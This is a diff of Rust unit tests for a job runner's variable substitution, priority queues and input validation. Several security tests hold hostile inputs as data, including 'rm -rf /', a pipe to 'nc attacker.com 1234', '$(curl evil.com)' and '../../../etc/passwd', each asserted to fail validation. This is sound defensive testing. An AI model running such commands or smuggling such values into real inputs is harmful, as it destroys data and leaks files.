+        let result = substitute_input(&task, &input).unwrap();
 
         assert_eq!(result.args[0], "/tmp/a");
         assert_eq!(result.args[1], "/tmp/b");
     }
 
+    // ===== Unit tests for job variable substitution =====
+
+    fn job_with_args(args: &[&str], env: serde_json::Value) -> Job {
+        Job {
+            id: "job_c".to_string(),
+            action_id: "action-1".to_string(),
+            plan_id: "plan-1".to_string(),
+            task_number: 3,
+            command: "echo".to_string(),
+            args: args.iter().map(|a| (*a).to_string()).collect(),
+            stages: vec![],
+            env,
+            status: default_job_status(),
+            tags: vec![],
+            dependencies: vec![],
+            order_only: vec![],
+            limits: ResourceLimits::default(),
+            timeout_secs: None,
+            artifacts: vec![],
+            created_at: None,
+            max_attempts: None,
+            priority: JobPriority::default(),
+            item_index: None,
+        }
+    }
+
+    #[test]
+    fn test_job_priority_queues() {
+        assert_eq!(
+            JobPriority::High.queue_name("queue:default"),
+            "queue:default:high"
+        );
+        assert_eq!(
+            JobPriority::Normal.queue_name("queue:default"),
+            "queue:default"
+        );
+
+        let job: Job = serde_json::from_str(
+            r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,
+                "command":"echo","args":[],"priority":"low"}"#,
+        )
+        .unwrap();
+        assert_eq!(job.priority, JobPriority::Low);
+        assert_eq!(
+            job_with_args(&[], serde_json::json!({})).priority,
+            JobPriority::Normal
+        );
+
+        assert_eq!(job.ready_queue(), "queue:default:low");
+        let mut job = job_with_args(&[], serde_json::json!({}));
+        job.tags = vec!["cpu".to_string()];
+        assert_eq!(job.ready_queue(), "queue:default");
+        job.tags = vec!["vram:24".to_string(), "gpu".to_string()];
+        job.priority = JobPriority::High;
+        assert_eq!(job.ready_queue(), "queue:tags:gpu+vram:24:high");
+    }
+
+    #[test]
+    fn test_job_substitute_env_variable() {
+        use serde_json::json;
+        let job = job_with_args(&["--file", "${env.path}"], json!({"path": "/tmp/a.txt"}));
+        let result = job.substitute_variables(&HashMap::new(), true).unwrap();
+        assert_eq!(result.args, vec!["--file", "/tmp/a.txt"]);
+    }
+
+    #[test]
+    fn test_job_substitute_task_output_strips_trailing_newline() {
+        let job = job_with_args(&["count=${TASK_1_OUTPUT}"], serde_json::Value::Null);
+        let outputs = HashMap::from([(1, "42\n".to_string())]);
+        let result = job.substitute_variables(&outputs, true).unwrap();
+        assert_eq!(result.args, vec!["count=42"]);
+    }
+
+    #[test]
+    fn test_job_substitute_mixed_variables() {
+        use serde_json::json;
+        let job = job_with_args(
+            &["${env.prefix}-${TASK_2_OUTPUT}"],
+            json!({"prefix": "report"}),
+        );
+        let outputs = HashMap::from([(2, "2024".to_string())]);
+        let result = job.substitute_variables(&outputs, true).unwrap();
+        assert_eq!(result.args, vec!["report-2024"]);
+    }
+
+    #[test]
+    fn test_job_substitute_strict_unresolved() {
+        let job = job_with_args(
+            &["${TASK_9_OUTPUT}:${env.missing}"],
+            serde_json::Value::Null,
+        );
+        let err = job
+            .substitute_variables(&HashMap::new(), true)
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("TASK_9_OUTPUT"));
+        assert!(err.contains("env.missing"));
+    }
+
+    #[test]
+    fn test_job_substitute_lenient_unresolved_expands_empty() {
+        let job = job_with_args(&["a${env.missing}b"], serde_json::Value::Null);
+        let result = job.substitute_variables(&HashMap::new(), false).unwrap();
+        assert_eq!(result.args, vec!["ab"]);
+    }
+
+    #[test]
+    fn test_job_substitute_injection_caught_by_validation() {
+        use serde_json::json;
+        let job = job_with_args(&["${env.name}"], json!({"name": "x; rm -rf /"}));
+        let result = job.substitute_variables(&HashMap::new(), true).unwrap();
+        assert!(result.validate().is_err());
+    }
+
+    #[test]
+    fn test_job_with_unsubstituted_variable_fails_validation() {
+        let job = job_with_args(&["${env.path}"], serde_json::Value::Null);
+        assert!(job.validate().is_err());
+    }
+
     // ===== Security tests for input substitution =====
 
     #[test]
@@ -774,15 +1264,16 @@ mod tests {
             args: vec!["{{input.path}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         // Attempt command injection via input
         let malicious_input = json!({"path": "/tmp/file; rm -rf /"});
-        let substituted_task = task.substitute_input(&malicious_input).unwrap();
+        let substituted_task = substitute_input(&task, &malicious_input).unwrap();
 
         // Validation should catch the semicolon
         assert!(
-            substituted_task.validate().is_err(),
+            validate_task(&substituted_task).is_err(),
             "Command injection via semicolon should be detected"
         );
     }
@@ -796,13 +1287,14 @@ mod tests {
             args: vec!["{{input.file}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         let malicious_input = json!({"file": "test.txt | nc attacker.com 1234"});
-        let substituted_task = task.substitute_input(&malicious_input).unwrap();
+        let substituted_task = substitute_input(&task, &malicious_input).unwrap();
 
         assert!(
-            substituted_task.validate().is_err(),
+            validate_task(&substituted_task).is_err(),
             "Pipe injection should be detected"
         );
     }
@@ -816,13 +1308,14 @@ mod tests {
             args: vec!["{{input.path}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         let malicious_input = json!({"path": "../../../etc/passwd"});
-        let substituted_task = task.substitute_input(&malicious_input).unwrap();
+        let substituted_task = substitute_input(&task, &malicious_input).unwrap();
 
         assert!(
-            substituted_task.validate().is_err(),
+            validate_task(&substituted_task).is_err(),
             "Path traversal should be detected"
         );
     }
@@ -836,13 +1329,14 @@ mod tests {
             args: vec!["{{input.value}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         let malicious_input = json!({"value": "`whoami`"});
-        let substituted_task = task.substitute_input(&malicious_input).unwrap();
+        let substituted_task = substitute_input(&task, &malicious_input).unwrap();
 
         assert!(
-            substituted_task.validate().is_err(),
+            validate_task(&substituted_task).is_err(),
             "Backtick command substitution should be detected"
         );
     }
@@ -856,13 +1350,14 @@ mod tests {
             args: vec!["{{input.value}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         let malicious_input = json!({"value": "$(curl evil.com)"});
-        let substituted_task = task.substitute_input(&malicious_input).unwrap();
+        let substituted_task = substitute_input(&task, &malicious_input).unwrap();
 
         assert!(
-            substituted_task.validate().is_err(),
+            validate_task(&substituted_task).is_err(),
             "Dollar command substitution should be detected"
         );
     }
@@ -876,13 +1371,14 @@ mod tests {
             args: vec!["{{input.file}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         let malicious_input = json!({"file": "test.txt\nrm -rf /"});
-        let substituted_task = task.substitute_input(&malicious_input).unwrap();
+        let substituted_task = substitute_input(&task, &malicious_input).unwrap();
 
         assert!(
-            substituted_task.validate().is_err(),
+            validate_task(&substituted_task).is_err(),
             "Newline injection should be detected"
         );
     }
@@ -896,13 +1392,14 @@ mod tests {
             args: vec!["{{input.file}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         let malicious_input = json!({"file": "test.txt\0malicious"});
-        let substituted_task = task.substitute_input(&malicious_input).unwrap();
+        let substituted_task = substitute_input(&task, &malicious_input).unwrap();
 
         assert!(
-            substituted_task.validate().is_err(),
+            validate_task(&substituted_task).is_err(),
             "Null byte injection should be detected"
         );
     }
@@ -916,14 +1413,15 @@ mod tests {
             args: vec!["{{input.text}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         // Right-to-left override character
         let malicious_input = json!({"text": "test\u{202E}malicious"});
-        let substituted_task = task.substitute_input(&malicious_input).unwrap();
+        let substituted_task = substitute_input(&task, &malicious_input).unwrap();
 
         assert!(
-            substituted_task.validate().is_err(),
+            validate_task(&substituted_task).is_err(),
             "Dangerous Unicode should be detected"
         );
     }
@@ -937,14 +1435,15 @@ mod tests {
             args: vec!["{{input.path}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         // Safe input should pass validation
         let safe_input = json!({"path": "/tmp/test_file_123.txt"});
-        let substituted_task = task.substitute_input(&safe_input).unwrap();
+        let substituted_task = substitute_input(&task, &safe_input).unwrap();
 
         assert!(
-            substituted_task.validate().is_ok(),
+            validate_task(&substituted_task).is_ok(),
             "Safe input should pass validation"
         );
     }
@@ -962,13 +1461,14 @@ mod tests {
             ],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         let safe_input = json!({"src": "/tmp/source.txt", "dest": "/tmp/destination.txt"});
-        let substituted_task = task.substitute_input(&safe_input).unwrap();
+        let substituted_task = substitute_input(&task, &safe_input).unwrap();
 
         assert!(
-            substituted_task.validate().is_ok(),
+            validate_task(&substituted_task).is_ok(),
             "Safe multi-arg input should pass validation"
         );
     }